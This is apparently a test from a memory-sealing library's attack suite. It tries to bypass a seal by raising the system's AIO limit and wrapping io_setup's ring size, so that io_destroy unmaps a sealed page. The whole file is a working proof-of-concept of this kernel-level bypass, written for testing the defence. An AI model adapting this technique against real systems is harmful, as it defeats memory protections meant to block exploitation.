// io_setup for so many events that the kernel's number of places in the ring wraps around: the ring is small,
// where a larger one would be refused. The victim takes the ring's place, and io_destroy unmaps it.
#include <fstream>

#include "tests/attacks/attack.h"

using namespace libmseal::tests;

namespace {

// The machine's limit of events, raised until the end.
class RaisedLimit {
 public:
  RaisedLimit() {
    std::ifstream(kFile) >> before_;
    if (!(std::ofstream(kFile) << 0xFFFF'FFFF << std::flush)) cannot_try("aio-max-nr");
  }
  ~RaisedLimit() { std::ofstream(kFile) << before_; }
  RaisedLimit(const RaisedLimit&) = delete;
  RaisedLimit& operator=(const RaisedLimit&) = delete;

 private:
  static constexpr const char* kFile = "/proc/sys/fs/aio-max-nr";
  std::string before_;
};

}  // namespace

int main() {
  constexpr unsigned kWraps = 0x8000'0001;
  unsigned long ring = 0;
  long made = 0;
  {
    const RaisedLimit limit;
    made = raw_syscall(__NR_io_setup, kWraps, &ring);
  }
  if (libmseal::shim::failed(made)) cannot_call("io_setup", made);
  const std::string contents(reinterpret_cast<const char*>(ring), kPage);
  if (raw_syscall(__NR_munmap, ring, kPage) != 0) cannot_try("munmap of the ring");
  char* const at = map_at(ring, kPage);
  std::memcpy(at, contents.data(), kPage);
  if (::mprotect(at, kPage, PROT_READ) != 0) cannot_try("mprotect before the seal");
  const Victim victim(at, kPage);
  return conclude(victim, "io_destroy", raw_syscall(__NR_io_destroy, ring));
}
